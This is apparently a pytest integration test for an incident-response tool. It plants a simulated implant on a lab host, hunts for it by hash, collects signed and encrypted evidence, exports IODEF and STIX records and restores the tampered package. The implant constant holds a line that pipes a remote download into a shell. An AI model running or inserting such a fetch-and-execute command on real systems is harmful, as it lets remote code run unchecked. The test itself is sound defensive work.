"""The whole response on one lab host: hunt, evidence, incident record and report, restore.

The host runs the demo repository's assessor-demo 1.0-1; its /usr/bin/assessor-demo is
changed on the host (over ssh) and an implant matching an indicator is planted. The
record is reported (HTML in Chromium, IODEF against RFC 8727's schema, STIX through the
OASIS validator), restore brings dpkg's md5sums back, and last the host is stopped in
the middle of an evidence collection, which must leave a bundle that says so.
"""

from __future__ import annotations

import email
import hashlib
import json
import os
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from email.policy import default
from pathlib import Path

import jsonschema
import pytest
from browser import chromium
from labrun import ASSESSOR, run_cli, running_lab, ssh_ops
from selenium.webdriver.common.by import By
from stix2validator import ValidationOptions, validate_instance

from assessor.cli import main
from assessor.incident.contacts import load_contacts
from assessor.incident.record import case_dir, load_case
from assessor.incident.summary import build
from assessor.lab import fleet

LAB = os.environ.get("ASSESSOR_INCIDENT_LAB", "inc")
CASE = "IR-LAB-1"
ROOT = Path(__file__).parents[2]
CONTACTS = ROOT / "inventories/example/contacts.yml"
# the profile is re-applied in full by default; a lab test re-applies two controls of it
# (the hardened flavour passes them already), which keeps the harden step short
CONTROLS = ("--controls", "ssh.permit-root-login,ssh.max-auth-tries")
SCHEMA = json.loads((ROOT / "tests/data/iodef/rfc8727-schema.json").read_text())
IMPLANT = b"#!/bin/sh\n# test_lab_incident implant\ncurl -s http://198.51.100.7/x | sh\n"
SLOW = "37.125"  # the sleep the host dies in, found by its argument
ARTIFACTS = """\
- {id: processes, what: Processes, order: 1, tier: volatile, collector: processes}
- {id: persistence, what: Cron and units, order: 10, tier: system, collector: glob,
   paths: [/etc/cron.d/*, /etc/systemd/system/*.service]}
- {id: package-integrity, what: dpkg --verify, order: 14, tier: system, collector: command,
   argv: [dpkg, --verify, assessor-demo]}
- {id: bodyfile, what: Bodyfile of /tmp, order: 30, tier: files, collector: stat, paths: [/tmp]}
"""
SLOW_ARTIFACTS = f"""\
- {{id: logged-in, what: Sessions, order: 3, tier: volatile, collector: command, argv: [who, -a]}}
- {{id: slow, what: Outlives the host, order: 10, tier: system, collector: command,
   argv: [sleep, "{SLOW}"], timeout: 90}}
- {{id: accounts, what: Accounts, order: 11, tier: system, collector: file, paths: [/etc/passwd]}}
- {{id: histories, what: Histories, order: 22, tier: logs, collector: glob,
   paths: [/root/.bash_history]}}
"""


@dataclass(frozen=True)
class Response:
    lab: fleet.LabState
    host: str
    work: Path
    keys: Path
    iocs: Path
    hunt: Path

    @property
    def cases(self) -> Path:
        return self.work / "cases"

    def incident(self) -> Path:
        return case_dir(self.cases, CASE)


@pytest.fixture(scope="module")
def response(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Response]:
    work = tmp_path_factory.mktemp("inc")
    with running_lab(LAB, 1, "hardened", work / "inventory.yml") as lab:
        fleet.serve_demo_repo(LAB, say=lambda _: None)
        host = lab.hosts[0].name
        changed = ssh_ops(lab, host, "sudo sh -c 'printf \"\\n# tampered\\n\" >> "
                          "/usr/bin/assessor-demo && mkdir -p /tmp/.cache-x && "
                          f"printf \"%s\" \"$0\" > /tmp/.cache-x/update' '{IMPLANT.decode()}'")
        assert changed.returncode == 0, changed.stderr
        iocs = work / "iocs.csv"
        iocs.write_text(f"type,value,source\nsha256,{hashlib.sha256(IMPLANT).hexdigest()},"
                        "CERT bulletin 2026-17\n")
        keys = work / "keys"
        assert run_cli("keys", "init", "--dir", str(keys)).returncode == 0
        hunt = run_cli("hunt", "-i", str(lab.inventory), "--iocs", str(iocs), "--out",
                       str(work / "hunt"))
        assert hunt.returncode == 1, hunt.stdout + hunt.stderr
        (hunt_dir,) = (work / "hunt").iterdir()
        yield Response(lab, host, work, keys, iocs, hunt_dir)


def verified_by_stock_tools(bundle: Path, keys: Path) -> str:
    """`sha256sum -c` and `minisign -V` both pass; returns minisign's trusted comment."""
    sums = subprocess.run(["sha256sum", "--strict", "-c", "MANIFEST.sha256"], cwd=bundle,
                          capture_output=True, text=True, check=False)
    assert sums.returncode == 0, sums.stdout
    sig = subprocess.run(["minisign", "-Vm", "MANIFEST.sha256", "-p", str(keys / "evidence.pub")],
                         cwd=bundle, capture_output=True, text=True, check=False)
    assert sig.returncode == 0, sig.stderr
    return sig.stdout


def tampered(response: Response) -> str:
    verify = ssh_ops(response.lab, response.host, "dpkg --verify assessor-demo")
    return verify.stdout


def test_evidence_collected_and_verified_by_stock_tools(response: Response) -> None:
    artifacts = response.work / "artifacts.yaml"
    artifacts.write_text(ARTIFACTS)
    identity = response.work / "cert-age.key"
    made = subprocess.run(["age-keygen", "-o", str(identity)], capture_output=True, text=True,
                          check=True)
    recipient = made.stderr.split("Public key: ")[1].strip()
    proc = run_cli("evidence", "-i", str(response.lab.inventory), "--case", CASE,
                   "--artifacts", str(artifacts), "--from-hunt", str(response.hunt),
                   "--out", str(response.cases), "--keys", str(response.keys),
                   "--encrypt-to", recipient)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    bundle = response.cases / CASE / response.host
    clear = response.work / "decrypted"
    clear.mkdir()
    opened = subprocess.run(f"age -d -i {identity} {bundle}.tar.age | tar -x -C {clear}",
                            shell=True, capture_output=True, text=True, check=False)
    assert opened.returncode == 0, opened.stderr
    assert (clear / response.host / "MANIFEST.sha256").read_bytes() == \
        (bundle / "MANIFEST.sha256").read_bytes()
    verified_by_stock_tools(bundle, response.keys)
    assert "/usr/bin/assessor-demo" in (bundle / "system/package-integrity.txt").read_text()
    assert (bundle / "files/tmp/.cache-x/update").read_bytes() == IMPLANT


def test_incident_report_and_exports(response: Response) -> None:
    for args in (("open", "--title", "Implant on a web host", "--severity", "critical"),
                 ("add", str(response.hunt), str(response.cases / CASE / response.host)),
                 ("report", "--contacts", str(CONTACTS), "--eml")):
        # the incident commands never reach a host: run in-process, no interpreter start-up
        assert main(["incident", *args, "--case", CASE, "--out", str(response.cases)]) == 0
    out = response.incident()
    iodef = json.loads((out / "iodef.json").read_text())
    jsonschema.Draft4Validator(SCHEMA, format_checker=jsonschema.FormatChecker()).validate(iodef)
    files = iodef["Incident"][0]["EventData"][0]["RecordData"][0]["FileData"][0]["File"]
    assert [f["FileName"] for f in files] == ["/tmp/.cache-x/update"]
    stix = json.loads((out / "stix.json").read_text())
    checked = validate_instance(stix, ValidationOptions(version="2.1", strict=True))
    assert checked.is_valid, [str(e) for e in checked.errors]
    assert [o["type"] for o in stix["objects"]].count("sighting") == 1
    mail = email.message_from_bytes((out / "incident.eml").read_bytes(), policy=default)
    assert "ir@vncert.vn" in mail["To"] and "ais@mic.gov.vn" in mail["To"]


def test_report_opens_in_chromium_with_the_record_counts(response: Response) -> None:
    record, _ = load_case(response.cases, CASE)
    expected = build(record, load_contacts(CONTACTS)).counts()
    assert expected["detections"] == 1 and expected["bundles"] == 1
    with chromium(javascript=False) as driver:
        driver.get((response.incident() / "incident.html").as_uri())
        for name in ("hosts", "detections", "actions", "indicators", "bundles"):
            cell = driver.find_element(By.CSS_SELECTOR, f"td[data-count={name}]")
            assert cell.text == str(expected[name]), name
        assert len(driver.find_elements(By.CSS_SELECTOR, "tr.event")) == expected["events"]
        national = driver.find_elements(By.CSS_SELECTOR, "tr.national")
        assert "086.9100.317" in national[0].text and "038.9942878" in national[1].text
        pdf = driver.print_page()
        assert len(pdf) > 10_000


def test_restore_check_changes_nothing(response: Response) -> None:
    proc = run_cli("restore", "-i", str(response.lab.inventory), "--limit", response.host,
                   "--case", CASE, "--cases", str(response.cases), "--check", *CONTROLS,
                   "--iocs", str(response.iocs), "--out", str(response.work / "restore-check"),
                   timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "would reinstall assessor-demo=1.0-1" in proc.stdout
    assert "/usr/bin/assessor-demo" in tampered(response)


def test_restore_brings_md5sums_back_and_is_recorded(response: Response) -> None:
    started = time.monotonic()
    proc = run_cli("restore", "-i", str(response.lab.inventory), "--limit", response.host,
                   "--case", CASE, "--cases", str(response.cases), *CONTROLS, "--iocs",
                   str(response.iocs), "--out", str(response.work / "restore"), timeout=900)
    took = time.monotonic() - started
    (run_dir,) = (response.work / "restore").iterdir()
    record = json.loads((run_dir / "restore.json").read_text())
    (host,) = record["hosts"]
    assert host["reinstalled"] == ["assessor-demo=1.0-1"], proc.stdout + proc.stderr
    assert tampered(response) == ""  # dpkg's md5sums match again: the package's own file
    assert host["before"]["files failing md5sums"] == 1
    assert host["after"]["files failing md5sums"] == 0
    # every hit counts: the implant's indicator and ClamAV hits (the run's own signatures),
    # and hunt.live.package-modified for the tampered program (reinstalled, not quarantined)
    assert host["before"]["hunt findings"] == 3
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert host["after"]["hunt findings"] == 0 and host["restored"]
    assert 0 < record["duration_s"] <= took
    print(f"\nrestore of one lab host took {record['duration_s']} s: {record['step_seconds']}")
    assert main(["incident", "report", "--case", CASE, "--out", str(response.cases)]) == 0
    case, _ = load_case(response.cases, CASE)
    assert [a.kind for a in case.attachments][-1] == "restore"
    actions = [e.action for e in build(case).timeline]
    assert "reinstalled" in actions


def test_host_gone_mid_collection_leaves_a_bundle_that_says_so(response: Response) -> None:
    artifacts = response.work / "slow.yaml"
    artifacts.write_text(SLOW_ARTIFACTS)
    cases = response.work / "cut"
    collecting = subprocess.Popen(
        [ASSESSOR, "evidence", "-i",
         str(response.lab.inventory), "--case", "IR-CUT", "--artifacts", str(artifacts),
         "--out", str(cases), "--keys", str(response.keys)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert wait_for_sleep(SLOW, 120), "the slow artifact never started on the host"
        host = response.lab.hosts[0]
        assert fleet.is_launcher(host.pid)
        fleet.signal_process(host.pid, 15)  # the host's supervisor: the host shuts down
        out, err = collecting.communicate(timeout=180)
    finally:
        if collecting.poll() is None:
            collecting.kill()
            collecting.wait(timeout=30)
    assert collecting.returncode == 3, out + err
    bundle = cases / "IR-CUT" / response.host
    record = json.loads((bundle / "collection.json").read_text())
    assert not record["complete"]
    assert record["tiers_collected"] == ["volatile"]
    assert set(record["tiers_missing"]) == {"system", "logs"}
    assert record["not_collected"] == ["slow", "accounts", "histories"]
    assert "complete:False" in verified_by_stock_tools(bundle, response.keys)


def wait_for_sleep(argument: str, seconds: float) -> bool:
    """Whether a `sleep ARGUMENT` shows up (lab hosts' processes are visible from here)."""
    wanted = b"sleep\0" + argument.encode() + b"\0"
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    if (entry / "cmdline").read_bytes() == wanted:
                        return True
                except OSError:
                    continue
        time.sleep(0.2)
    return False
